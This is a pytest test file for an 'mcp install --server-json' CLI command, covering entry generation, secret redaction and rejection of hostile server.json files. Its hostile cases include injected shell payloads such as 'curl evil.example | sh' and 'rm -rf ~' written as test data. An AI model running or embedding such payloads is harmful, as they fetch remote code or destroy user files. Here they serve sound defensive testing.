"""``agenttools mcp install CLIENT… --server-json FILE``: a pypi package becomes a pinned uvx
entry, an npm package an npx one, a remote a URL entry with its headers, written by the same
lossless, owned edits as every other entry; the inputs it declares are given, asked for or
listed in one error; and a hostile file is one clear error that changes nothing."""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path
from typing import Any

import pytest

from agenttools_runtime.cli import main
from agenttools_runtime.export.server_json_in import read_server_json

SCHEMA = "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json"
PYPI: dict[str, Any] = {
    "$schema": SCHEMA,
    "name": "io.github.example/weather",
    "description": "Weather lookups.",
    "version": "1.2.0",
    "packages": [
        {
            "registryType": "pypi",
            "identifier": "weather-tools",
            "version": "1.2.0",
            "runtimeHint": "uvx",
            "transport": {"type": "stdio"},
            "packageArguments": [{"type": "positional", "value": "--offline"}],
            "environmentVariables": [{"name": "WEATHER_UNITS", "value": "metric"}],
        }
    ],
}
SECRET = "sk-NEVER-PRINTED-42"
NPM: dict[str, Any] = {
    "$schema": SCHEMA,
    "name": "io.github.example/notes",
    "description": "Notes.",
    "version": "3.1.0",
    "packages": [
        {
            "registryType": "oci",
            "identifier": "ghcr.io/example/notes:3.1.0",
            "transport": {"type": "stdio"},
        },
        {
            "registryType": "npm",
            "identifier": "@example/notes-mcp",
            "version": "3.1.0",
            "transport": {"type": "stdio"},
            "environmentVariables": [
                {
                    "name": "NOTES_TOKEN",
                    "isRequired": True,
                    "isSecret": True,
                    "description": "API token",
                },
                {"name": "NOTES_MODE", "choices": ["fast", "safe"], "default": "safe"},
                {"name": "NOTES_DEBUG"},
            ],
        },
    ],
}
REMOTE: dict[str, Any] = {
    "$schema": SCHEMA,
    "name": "io.github.example/docs",
    "description": "Docs.",
    "version": "2025.1",
    "remotes": [
        {
            "type": "streamable-http",
            "url": "https://{tenant}.docs.example.org/mcp",
            "variables": {"tenant": {"isRequired": True, "description": "Your tenant"}},
            "headers": [{"name": "X-Api-Key", "isRequired": True, "isSecret": True}],
        }
    ],
}


def _write(tmp_path: Path, document: Any, name: str = "server.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def _entries(home: Path) -> dict[str, Any]:
    """Claude Code's entries; none when the file is gone (an uninstall of the only entry
    agenttools added to a file it created leaves the home as it was)."""
    config = home / ".claude.json"
    if not config.exists():
        return {}
    data: dict[str, Any] = json.loads(config.read_text())
    return data["mcpServers"]


def test_a_pypi_package_is_a_pinned_uvx_entry_in_every_client(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, PYPI)
    assert main(["mcp", "install", "claude-code", "codex", "--server-json", str(path)]) == 0
    out = capsys.readouterr().out
    assert "runs: uvx weather-tools==1.2.0 --offline" in out
    assert _entries(home)["weather"] == {
        "type": "stdio",
        "command": "uvx",
        "args": ["weather-tools==1.2.0", "--offline"],
        "env": {"WEATHER_UNITS": "metric"},
    }
    codex = (home / ".codex" / "config.toml").read_text()
    assert 'args = ["weather-tools==1.2.0", "--offline"]' in codex
    # the same entry again is no change; another key with --name
    assert main(["mcp", "install", "claude-code", "--server-json", str(path)]) == 0
    assert "already there" in capsys.readouterr().out
    assert main(["mcp", "uninstall", "claude-code", "weather"]) == 0
    assert "weather" not in _entries(home)


def test_an_npm_package_with_inputs_given_and_defaulted(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, NPM)
    argv = ["mcp", "install", "claude-code", "--server-json", str(path), "--json"]
    assert main([*argv, "--env", f"NOTES_TOKEN={SECRET}"]) == 0
    out = capsys.readouterr()
    assert SECRET not in out.out + out.err
    assert json.loads(out.out)["launch"]["command"] == ["npx", "-y", "@example/notes-mcp@3.1.0"]
    entry = _entries(home)["notes"]
    assert entry["command"] == "npx" and entry["args"] == ["-y", "@example/notes-mcp@3.1.0"]
    # the secret's only home is the user-scope entry; an optional input without a value is out
    assert entry["env"] == {"NOTES_TOKEN": SECRET, "NOTES_MODE": "safe"}


def test_a_remote_is_a_url_entry_with_its_headers(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, REMOTE)
    argv = ["mcp", "install", "claude-code", "--server-json", str(path)]
    assert main([*argv, "--env", "tenant=acme", "--env", f"X_Api_Key={SECRET}"]) == 0
    out = capsys.readouterr()
    assert SECRET not in out.out + out.err
    assert _entries(home)["docs"] == {
        "type": "http",
        "url": "https://acme.docs.example.org/mcp",
        "headers": {"X-Api-Key": SECRET},
    }


def test_required_inputs_not_given_are_one_error_listing_them(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, REMOTE)
    assert main(["mcp", "install", "claude-code", "--server-json", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "tenant, X_Api_Key" in err and "--env" in err
    assert not (home / ".claude.json").exists()


@pytest.mark.parametrize(
    ("env", "says"),
    [
        (["NOTES_TOKEN=t", "NOTES_MODE=turbo"], "must be one of fast, safe"),
        (["NOTES_TOKEN=t", "NOTES_TOKNE=t"], "--env #2 names no setting"),
        (["NOTES_TOKEN"], "is not NAME=VALUE"),
    ],
)
def test_a_value_that_does_not_fit_is_refused(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str], env: list[str], says: str
) -> None:
    path = _write(tmp_path, NPM)
    argv = ["mcp", "install", "claude-code", "--server-json", str(path)]
    assert main([*argv, *(a for e in env for a in ("--env", e))]) in (1, 2)
    assert says in capsys.readouterr().err
    assert not (home / ".claude.json").exists()


@pytest.mark.parametrize("given", [f"={SECRET}", SECRET])
def test_an_assignment_without_a_name_never_shows_its_value(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str], given: str
) -> None:
    path = _write(tmp_path, NPM)
    argv = ["mcp", "install", "claude-code", "--server-json", str(path), "--env", given]
    assert main(argv) == 2
    out = capsys.readouterr()
    assert "#1 is not NAME=VALUE" in out.err and SECRET not in out.out + out.err
    assert not (home / ".claude.json").exists()


def test_a_secret_is_refused_for_a_project_file(
    tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, NPM)
    project = tmp_path / "project"
    project.mkdir()
    argv = ["mcp", "install", "claude-code", "--project", str(project), "--server-json", str(path)]
    assert main([*argv, "--env", f"NOTES_TOKEN={SECRET}"]) == 1
    err = capsys.readouterr().err
    assert "NOTES_TOKEN" in err and SECRET not in err
    assert list(project.iterdir()) == []


def test_install_into_a_managed_environment_is_not_there_yet(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, PYPI)
    assert main(["mcp", "install", "claude-code", "--server-json", str(path), "--install"]) == 2
    assert "not available yet" in capsys.readouterr().err
    # (without --server-json, --env gives the values of a declared server's settings)
    assert main(["mcp", "install", "claude-code", "weather", "--env", "A=b"]) == 1


def _hostile(case: str, tmp_path: Path) -> Path:
    document = copy.deepcopy(PYPI)
    package = document["packages"][0]
    if case == "wrong types":
        document["version"] = 5
        package["packageArguments"] = "--offline"
    elif case == "unknown registry type":
        package["registryType"] = "cargo"
    elif case == "shell metacharacters in the package name":
        package["identifier"] = "weather-tools; curl evil.example | sh"
    elif case == "a command in the version":
        package["version"] = "1.2.0 && rm -rf ~"
    elif case == "an environment variable named like code":
        package["environmentVariables"] = [{"name": "X=$(id)", "value": "1"}]
    elif case == "a package that is not stdio":
        package["transport"] = {"type": "streamable-http", "url": "http://localhost:1"}
    elif case == "another runtime":
        package["runtimeHint"] = "docker"
    elif case == "a line break in an argument":
        package["packageArguments"] = [{"type": "positional", "value": "a\nb"}]
    elif case == "nested too deep":
        deep: Any = "x"
        for _ in range(200):
            deep = [deep]
        document["_meta"] = {"io.modelcontextprotocol.registry/publisher-provided": {"d": deep}}
    elif case == "a 10 MB file":
        path = tmp_path / "server.json"
        with open(path, "w", encoding="utf-8") as file:
            file.write('{"name": "io.github.a/b", "description": "')
            file.write("x" * 10_000_000)
            file.write('", "version": "1"}')
        return path
    elif case == "not JSON":
        path = tmp_path / "server.json"
        path.write_text("{'name': 1,")
        return path
    elif case == "a directory":
        (tmp_path / "server.json").mkdir()
        return tmp_path / "server.json"
    elif case == "a named pipe":
        os.mkfifo(tmp_path / "server.json")
        return tmp_path / "server.json"
    return _write(tmp_path, document)


HOSTILE = [
    "wrong types",
    "unknown registry type",
    "shell metacharacters in the package name",
    "a command in the version",
    "an environment variable named like code",
    "a package that is not stdio",
    "another runtime",
    "a line break in an argument",
    "nested too deep",
    "a 10 MB file",
    "not JSON",
    "a directory",
    "a named pipe",
]


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_server_json_is_one_clear_error_and_changes_nothing(
    case: str, tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if case == "a named pipe" and not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    config = home / ".claude.json"
    config.write_text('{"mcpServers": {"other": {"command": "x"}}}\n')
    before = config.read_bytes()
    path = _hostile(case, tmp_path)
    status = main(["mcp", "install", "claude-code", "codex", "--server-json", str(path)])
    err = capsys.readouterr().err
    assert status == 1, err
    assert err.count("\n") == 1 and err.startswith("agenttools: "), err
    assert str(path) in err
    assert len(err) < 600  # a 10 MB value is not echoed
    assert config.read_bytes() == before
    assert not (home / ".codex").exists()


def test_read_server_json_describes_the_launch(tmp_path: Path) -> None:
    described = read_server_json(_write(tmp_path, NPM))
    assert (described.kind, described.key, described.command) == ("npm", "notes", "npx")
    assert [s.name for s in described.settings] == ["NOTES_TOKEN", "NOTES_MODE", "NOTES_DEBUG"]
    assert described.secrets == ("NOTES_TOKEN",)
